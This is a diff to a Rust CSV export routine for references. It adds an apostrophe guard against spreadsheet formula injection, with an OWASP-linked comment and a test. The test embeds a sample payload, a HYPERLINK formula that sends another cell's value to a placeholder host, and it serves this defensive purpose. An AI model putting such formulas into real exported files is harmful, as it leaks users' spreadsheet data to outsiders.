@@ -6,6 +6,10 @@ use crate::Reference;
 pub const CSV_HEADER: &str = "id,title,authors,container,date,url,language\r\n";
 
 /// Returns a row. Authors are separated by semicolons.
+///
+/// Before what a spreadsheet would take for a formula stands an apostrophe: titles come
+/// from anywhere, and a formula may send away what is in other cells
+/// (<https://owasp.org/www-community/attacks/CSV_Injection>).
 pub fn csv_row(reference: &Reference) -> String {
     let Reference { id, title, authors, container, date, url, lang, .. } = reference;
     let authors: Vec<String> = authors.iter().map(crate::Name::in_order).collect();
@@ -16,10 +20,13 @@ pub fn csv_row(reference: &Reference) -> String {
 }
 
 fn cell(text: &str) -> String {
+    let is_formula =
+        text.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
+    let guard = if is_formula { "'" } else { "" };
     if text.contains(['"', ',', '\r', '\n']) {
-        format!("\"{}\"", text.replace('"', "\"\""))
+        format!("\"{guard}{}\"", text.replace('"', "\"\""))
     } else {
-        text.to_owned()
+        format!("{guard}{text}")
     }
 }
 
@@ -40,5 +47,12 @@ mod tests {
         };
         let row = "a-1,\"Tides, \"\"explained\"\"\",Mary Anning; Li Wei,,2013-06,,en\r\n";
         assert_eq!(csv_row(&reference), row);
+    }
+    #[test]
+    fn no_cell_is_a_formula() {
+        let title = "=HYPERLINK(\"https://a.example\", A2)".to_owned();
+        let authors = vec![Name::parse("@SUM")];
+        let row = csv_row(&Reference { title, authors, ..Reference::default() });
+        assert_eq!(row, ",\"'=HYPERLINK(\"\"https://a.example\"\", A2)\",'@SUM,,,,\r\n");
     }
 }
